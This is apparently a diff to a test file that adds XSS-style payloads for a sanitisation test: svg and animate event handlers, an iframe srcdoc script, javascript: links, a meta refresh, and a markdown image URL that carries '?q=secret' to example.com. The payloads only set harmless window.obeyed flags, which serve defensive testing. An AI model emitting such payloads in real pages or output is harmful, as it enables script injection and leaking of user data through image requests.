@@ -10,9 +10,15 @@ from tests.toy import ToyBackend
 SCRIPT = "<script>window.obeyed = 1</script>"
 MARKUP = f'{SCRIPT}<img src="http://example.com/x.png" onerror="window.obeyed = 2"><style>body{{display:none}}</style>'
 LINK = '<a href="javascript:window.obeyed = 3">here</a> [here](javascript:alert(1)) </pre></code></script>'
+DRAWN = (
+    '<svg onload="window.obeyed = 4"><animate onbegin="window.obeyed = 5" attributeName="x" dur="1s"/></svg>'
+    '<iframe srcdoc="<script>parent.obeyed = 6</script>"></iframe><details open ontoggle="window.obeyed = 7">'
+    '<math href="javascript:window.obeyed = 8">x</math><meta http-equiv="refresh" content="0;url=http://example.com/">'
+)
+NOTED = "![seen](http://example.com/y.png?q=secret) [![seen](http://example.com/z.png)](javascript:window.obeyed=9)"
 TERMINAL = "\x1b[31mred\x1b[0m \u202egnp.exe"
 SHOWN = "\\u001b[31mred\\u001b[0m \\u202egnp.exe"  # TERMINAL, as it is to be read
-HOSTILE = f"{MARKUP} {LINK} {TERMINAL} ``` | {{{{ 7 * 7 }}}} ]]> &amp;"
+HOSTILE = f"{MARKUP} {LINK} {TERMINAL} {DRAWN} {NOTED} ``` | {{{{ 7 * 7 }}}} ]]> &amp;"
 
 
 class HostileBackend(ToyBackend):
